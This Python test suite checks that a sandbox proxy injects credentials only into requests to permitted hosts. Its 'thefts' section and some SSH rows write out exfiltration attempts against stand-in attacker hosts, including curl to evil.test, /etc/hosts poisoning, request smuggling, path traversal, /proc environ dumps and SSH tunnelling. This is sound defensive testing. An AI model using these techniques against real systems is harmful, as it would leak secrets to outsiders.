"""Secrets that sandboxes use and never have, and ways to get hold of them."""

import authority
from evasions import Evasion, get, raw
from flows import NODE, SERVED, SSH, http, https, wait
from names import EVIL, GOOD_TOO
from sandbox import HOME, Sandbox, call
from table import CURL, INSIDE, Row, open_to_all

PLACEHOLDER = "sk_placeholder_0123456789"
TERMINATE = "terminate-reoriginate"


def source(name, kind, **spec):
    member = {"static_headers": "staticHeaders", "static_username_password": "staticUsernamePassword", "static_tls_client_certificate": "staticTLSClientCertificate",
              "static_ssh_private_key": "staticSSHPrivateKey"}[kind]  # fmt: skip
    call("POST", "/api/v1/credential-sources", {"name": name, "resolverKind": kind, "spec": {member: spec}})


class Secrets:
    """The sources of the test, and all that must never be found."""

    def __init__(self, world, canary):
        self.world, self.canary = world, canary
        self.certificate, self.certificate_key = authority.Authority(world.folder).certify("client")
        with open(f"{world.folder}/upstream") as key:
            self.ssh_key = key.read()
        with open(f"{world.folder}/inside.pub") as key:
            self.inside_key = key.read().strip()
        self.host_key = world.daemons.host_key
        self.repository = world.repository
        source("token", "static_headers", values={"token": canary})
        for name, user in [("redis", "test"), ("mqtt", "test"), ("proxy", "proxy-user")]:
            source(f"{name}-login", "static_username_password", username=user, password=f"{name}-{canary}")
        source("certificate", "static_tls_client_certificate", certificatePem=self.certificate, privateKeyPem=self.certificate_key)
        source("ssh-key", "static_ssh_private_key", privateKeyPem=self.ssh_key)


def binding(name, kind, source, **how):
    """How a projection's settings are called on the wire follows from its type."""
    first, *rest = kind.split("_")
    return {"ref": name, "sourceRef": source, "projection": {"type": kind, **({first + "".join(map(str.title, rest)): how} if how else {})}}


def header(template="Bearer {{ .token }}", name="Authorization"):
    return binding("header", "http_headers", "token", headers=[{"name": name, "valueTemplate": template}])


def placeholder(*locations):
    return binding("placeholder", "placeholder_substitution", "token", replacements=[{"placeholder": PLACEHOLDER, "valueTemplate": "{{ .token }}", "locations": locations}])


def use(binding, *domains, **rule):
    """A policy with one credential."""
    return open_to_all(credentialRules=[{"credentialRef": binding["ref"], "domains": list(domains or ["good.test"]), **rule}], bindings=[binding])


def in_headers(secrets):
    token = f"TOKEN.*authorization: Bearer {secrets.canary}"
    ok = {"says": SERVED, "trust": False}
    plain, tls = use(header(), protocol="http"), use(header(), protocol="https", tlsMode=TERMINATE)
    yield Row("secret in a header: HTTP", plain, http(), saw=f"good: GET /{token}", **ok)
    yield Row("secret in a header: HTTPS", tls, https(args="--http1.1"), saw=f"good: GET /{token}", **ok)
    yield Row("secret in a header: HTTP/2", tls, https(args="--http2"), saw=f"good: GET /{token}", **ok)
    yield Row("secret in a header: HTTP/2 in the clear", plain, f"{CURL} --http2-prior-knowledge http://good.test:8081/$TOKEN", saw=f"good: GET /{token}", **ok)
    yield Row("secret in a header: gRPC over TLS", use(header(), protocol="grpc", tlsMode=TERMINATE), f"{INSIDE} grpc good.test:50051", saw=f"grpc /test.Greetings/{token}", **ok)
    yield Row("secret in a header: gRPC in the clear", use(header(), protocol="grpc"), f"{INSIDE} grpc good.test:50052 clear", saw=f"grpc /test.Greetings/{token}", **ok)
    yield Row("secret in a header: requests", tls, f"{INSIDE} requests https://good.test/$TOKEN", saw=f"good: GET /{token}", **ok)
    yield Row("secret in a header: aiohttp", tls, f"{INSIDE} aiohttp https://good.test/$TOKEN", saw=f"good: GET /{token}", **ok)
    yield Row("secret in a header: httpx", tls, f"{INSIDE} httpx https://good.test/$TOKEN", saw=f"good: GET /{token}", **ok)
    yield Row("secret in a header: node fetch", tls, f"{NODE} https://good.test/$TOKEN", saw=f"good: GET /{token}", **ok)
    yield Row("secret in a header: WebSocket", tls, f"{INSIDE} websocket wss://good.test/$TOKEN", says="good heard", saw=f"WEBSOCKET /{token}", trust=False)
    yield Row("secret in a header: git over HTTPS", tls, "git ls-remote https://good.test/git/project.git", says="refs/heads/main", saw=f"info/refs.*authorization: Bearer {secrets.canary}", trust=False)
    yield Row("secret in a header: in place of the program's", plain, http(args="-H 'authorization: mine' -H 'AUTHORIZATION: mine'"), saw=f"good: GET /{token}", unseen="mine", **ok)
    yield Row("secret in a header: that the connection would drop", plain, http(args="-H 'Connection: authorization, keep-alive'"), saw=f"good: GET /{token}", **ok)
    yield Row("secret in a header: of all requests", plain, f"{INSIDE} many good.test 80 good.test good.test", saw=f"good: GET /{token}", says=SERVED, trust=False)
    matched = use(header(), protocol="http", httpMatch={"methods": ["POST"], "pathPrefixes": ["/a"]})
    yield Row("secret for some requests: one of them", matched, http("a/$TOKEN", args="-d x"), saw=f"POST /a/{token}", **ok)
    yield Row("secret for some requests: another", matched, http("a/$TOKEN"), saw="GET /a/TOKEN", unseen=secrets.canary, **ok)
    yield Row("secret of another host", plain, http(host="mail.test"), saw="GET /TOKEN", unseen=secrets.canary, **ok)
    yield Row("secret that is switched off", use(header(), rollout="disabled"), http(), saw="GET /TOKEN", unseen=secrets.canary, **ok)
    missing = header("{{ .missing }}")
    yield Row("secret that is missing", use(missing), http())
    yield Row("secret that is missing, where that does no harm", use(missing, failurePolicy="fail-open"), http(), saw="GET /TOKEN", **ok)


def in_place(secrets):
    canary = secrets.canary
    ok = {"says": SERVED, "trust": False}
    for scheme, rule, where in [("http", {}, "good.test:8080"), ("https", {"tlsMode": TERMINATE}, "good.test")]:
        yield Row(f"placeholder in a header: {scheme}", use(placeholder("header"), **rule), f"{CURL} -H 'X-Key: {PLACEHOLDER}' {scheme}://{where}/$TOKEN", saw=f"TOKEN.*x-key: {canary}", **ok)
        yield Row(f"placeholder in the query: {scheme}", use(placeholder("query"), **rule), f"{CURL} '{scheme}://{where}/'$TOKEN'?a=1&key={PLACEHOLDER}'", saw=f"TOKEN\\?.*key={canary}", **ok)
        yield Row(f"placeholder in the body: {scheme}", use(placeholder("body"), **rule), f"{CURL} -d '{{\"key\": \"{PLACEHOLDER}\"}}' {scheme}://{where}/$TOKEN", saw=f'TOKEN.*"key": "{canary}"', **ok)
        yield Row(f"placeholder elsewhere: {scheme}", use(placeholder("body"), **rule), f"{CURL} -H 'X-Key: {PLACEHOLDER}' '{scheme}://{where}/'$TOKEN'?key={PLACEHOLDER}'", saw="GET /TOKEN", unseen=canary, **ok)


def logins(secrets):
    canary = secrets.canary
    login = lambda name: binding("login", "username_password", f"{name}-login")
    redis = "redis-cli -h good.test SET $TOKEN 1"
    yield Row("Redis without a login", None, f"{redis} | grep OK")
    yield Row("Redis with a login that the sandbox does not know", use(login("redis"), protocol="redis"), f"{redis} | grep OK", says="OK")
    yield Row("MQTT without a login", None, f"{INSIDE} mqtt good.test 1883")
    yield Row("MQTT with a login that the sandbox does not know", use(login("mqtt"), protocol="mqtt"), f"{INSIDE} mqtt good.test 1883", says="published", saw="mosquitto: .*PUBLISH from TOKEN")
    socks = f"{CURL} --socks5-hostname socks.test:1080 http://good.test/$TOKEN"
    yield Row("SOCKS5 without a login", None, socks, unseen="connect to good")
    yield Row("SOCKS5 with a login that the sandbox does not know", use(login("proxy"), "socks.test", protocol="socks5"), socks, says=SERVED, saw="proxy with login: login of proxy-user: right")
    through = {"type": "socks5", "address": f"{GOOD_TOO}:1080"}
    yield Row("through a SOCKS5 proxy with a login", open_to_all(proxy={**through, "credentialRef": "login"}, bindings=[login("proxy")]), http(), says=SERVED, saw="proxy with login: connect to .*:80")
    yield Row("through a SOCKS5 proxy without its login", open_to_all(proxy=through), http(), unseen="connect to good")
    address = f"{CURL} https://good.test:8443/$TOKEN"
    certificate = binding("certificate", "tls_client_certificate", "certificate")
    for protocol in ["tls", "https"]:
        yield Row(f"a client's certificate, rule for {protocol}", use(certificate, protocol=protocol, tlsMode=TERMINATE), address, says=SERVED, saw=r"good: connected \(certificate of client\)", trust=False)
    known = f"[good.test]:2222 {secrets.host_key}"
    proxy = lambda known: binding("ssh", "ssh_proxy", "ssh-key", sandboxPublicKeys=[secrets.inside_key], upstreamUsername="root", knownHosts=[known])
    git = f'GIT_SSH_COMMAND="{SSH}" git ls-remote ssh://someone@good.test:2222{secrets.repository}'
    yield Row("git over SSH without a key that fits", None, git)
    yield Row("git over SSH with a key that the sandbox does not have", use(proxy(known), protocol="ssh", ports=[{"port": 2222}]), git, says="refs/heads/main", saw="sshd: .*Accepted publickey for root")
    yield Row("ssh with a key that the sandbox does not have", use(proxy(known), protocol="ssh", ports=[{"port": 2222}]), f"echo input | {SSH} -p 2222 someone@good.test 'cat; echo $((6 * 7)); exit 0'", says="input 42|input\\s42", saw="sshd: .*Accepted publickey for root")
    other = f'ssh-keygen -q -t ed25519 -N "" -f /tmp/other && {SSH.replace(f"{HOME}/inside", "/tmp/other")} -p 2222 someone@good.test true'
    yield Row("ssh with a key that the policy does not know", use(proxy(known), protocol="ssh", ports=[{"port": 2222}]), other, unseen="Accepted publickey")
    yield Row("ssh with such a key goes no further", use(proxy(known), protocol="ssh", ports=[{"port": 2222}]), f"printf 'GET /%s HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' $TOKEN | {SSH} -p 2222 -W {EVIL}:80 someone@good.test")
    yield Row("ssh with such a key opens no port", use(proxy(known), protocol="ssh", ports=[{"port": 2222}]), f"{SSH} -p 2222 -o ExitOnForwardFailure=yes -R 0:127.0.0.1:80 someone@good.test echo $TOKEN")
    forged = f"[good.test]:2222 {secrets.inside_key}"
    yield Row("git over SSH to a server that is not known", use(proxy(forged), protocol="ssh", ports=[{"port": 2222}]), git, unseen="Accepted publickey")


def sources(secrets):
    def rotated(box):
        call("PUT", "/api/v1/credential-sources/token", {"name": "token", "resolverKind": "static_headers", "spec": {"staticHeaders": {"values": {"token": f"{secrets.canary}-rotated"}}}})
        try:
            code, said = box.run(http("again"))
            assert code == 0, said
            seen = next(line for line in reversed(secrets.world.since(secrets.world.begun)) if "/again" in line)
            assert f"{secrets.canary}-rotated" in seen, "the former secret was used"
        finally:
            call("PUT", "/api/v1/credential-sources/token", {"name": "token", "resolverKind": "static_headers", "spec": {"staticHeaders": {"values": {"token": secrets.canary}}}})

    yield Row("a rotation reaches a running sandbox", use(header(), protocol="http"), http(), says=SERVED, after=rotated)

    def taken_back(box):
        held = box.start(f"{INSIDE} paced good.test", {"TOKEN": "paced"})["id"]
        wait(box, held, "answer 2")
        box.set_network(open_to_all())
        mark = secrets.world.mark()
        again, said = box.run(http("after"))
        assert again == 0, said
        assert not any(secrets.canary in line for line in secrets.world.since(mark)), "a secret was put into a request that no rule is about any more"

    yield Row("a secret that is taken back", use(header(), protocol="http"), http(), says=SERVED, after=taken_back)

    def bound(_box):
        refused = call("DELETE", "/api/v1/credential-sources/token", expect=(409,))
        assert secrets.canary not in str(refused), refused
        shown = call("GET", "/api/v1/credential-sources/token")
        assert secrets.canary not in str(shown) and "spec" not in shown, shown

    yield Row("a source that is bound is not deleted, and not shown", use(header(), protocol="http"), http(), says=SERVED, after=bound)

    def unknown():
        network = use({**header(), "sourceRef": "nobody"})
        call("POST", "/api/v1/sandboxes", {"template": "default", "config": {"network": network}}, expect=(400,))
        return Sandbox()

    yield Row("a source that the team does not have", None, http(), says=SERVED, claim=unknown)


def rows(secrets):
    yield from in_headers(secrets)
    yield from in_place(secrets)
    yield from logins(secrets)
    yield from sources(secrets)


def thefts(secrets):
    """The secret to whom it is not for. Nobody has it without a policy, so there is nothing to try first."""
    canary = secrets.canary

    def theft(name, policy, script, reached=f"^evil: .*{canary}", **more):
        return Evasion(f"secret: {name}", policy, script, reached, control=False, **{"unsaid": canary, **more})

    plain, tls = use(header(), protocol="http"), use(header(), tlsMode=TERMINATE)
    for host in ["xgood.test", "good.test.evil.test", "evil.test"]:
        yield theft(f"{host}", plain, http(host=host))
    yield theft("another host by HTTPS", tls, f"{CURL} -k https://evil.test/$TOKEN https://xgood.test/$TOKEN")
    yield theft("Host at another address", plain, f"{CURL} -H 'Host: good.test' http://evil.test/$TOKEN")
    yield theft("server name at another address", tls, f"{CURL} -k --resolve good.test:443:{EVIL} https://good.test/$TOKEN")
    yield theft("the address of another in one's own table of hosts", tls, f"echo {EVIL} good.test >>/etc/hosts; {CURL} -k https://good.test/$TOKEN http://good.test/$TOKEN")
    imposed = use(header(), "impostor.test", tlsMode=TERMINATE)
    yield theft("a server without a certificate for the name", imposed, f"{CURL} -k https://impostor.test/$TOKEN", f"^good: .*{canary}")

    led_out = use(header(), protocol="http", httpMatch={"pathPrefixes": ["/a"]})
    for spelling in ["../b", "%2e%2e/b", "..%2fb", ";x/../../b"]:
        yield theft(f"a path that leads out, {spelling}", led_out, f"{CURL} --path-as-is 'http://good.test/a/{spelling}'", f"^good: GET /a/.*{canary}")
    yield theft("a redirect", plain, f"{CURL} -L http://good.test/to/evil.test/$TOKEN")
    yield theft("a redirect of HTTPS", tls, f"{CURL} -k -L https://good.test/to/evil.test/$TOKEN")
    yield theft("userinfo", plain, f"{CURL} http://good.test@evil.test/$TOKEN")
    yield theft("a URI of another's", plain, raw(get("evil.test", path="http://good.test/$TOKEN"), host="evil.test"))
    yield theft("plain HTTP where it is for HTTPS", use(header(), protocol="https", tlsMode=TERMINATE), http(), f"^good: .*{canary}")
    yield theft("a neighbour's Host on the same connection", plain, f"{INSIDE} many good.test 80 good.test mail.test", f"^good: .*Host: mail.test.*{canary}")
    yield theft("a neighbour's Host within TLS", tls, f"{CURL} -k -H 'Host: mail.test' https://good.test/$TOKEN", f"^good: .*Host: mail.test.*{canary}")
    yield theft("a neighbour's authority on the same connection", tls, f"{INSIDE} h2 good.test 443 good.test mail.test", f"^good: .*mail.test.*{canary}")
    smuggle = f"POST /first HTTP/1.1\\r\\nHost: mail.test\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{get('good.test')}"
    yield theft("a smuggled request", plain, raw(smuggle, host="mail.test"), f"^good: .*Host: mail.test.*{canary}")
    for where, script in [("header", f"{CURL} -H 'X-Key: {PLACEHOLDER}'"), ("query", f"{CURL} -G -d key={PLACEHOLDER}"), ("body", f"{CURL} -d {PLACEHOLDER}")]:
        yield theft(f"a placeholder to another host, {where}", use(placeholder(where)), f"{script} http://evil.test/$TOKEN http://xgood.test/$TOKEN")
        yield theft(f"a placeholder to another Host, {where}", use(placeholder(where)), f"{script} -H 'Host: evil.test' http://good.test/$TOKEN", f"^good: .*Host: evil.test.*{canary}")
    yield theft("a placeholder in a path", use(placeholder("header", "query", "body")), http(f"$TOKEN/{PLACEHOLDER}"), f"^good: GET /TOKEN/{canary}")
    yield theft("an error page of the proxy", plain, f"{CURL} http://good.test:9/$TOKEN; {CURL} -k https://good.test:9/$TOKEN", "^never")
    yield theft("a refusal of the proxy", use(header("{{ .token }}{{ .missing }}")), http(), f"^good: .*{canary}")
    yield theft("what the sandbox is shown of its policy", tls, "env; cat /proc/*/environ /proc/*/cmdline; grep -rs canary /var/run/sandbox0 /etc /tmp; true", "^never")
    yield theft("Redis of another host", use(binding("login", "username_password", "redis-login"), protocol="redis"), raw("*1\\r\\n$4\\r\\nPING\\r\\n", host="evil.test", port=7000))

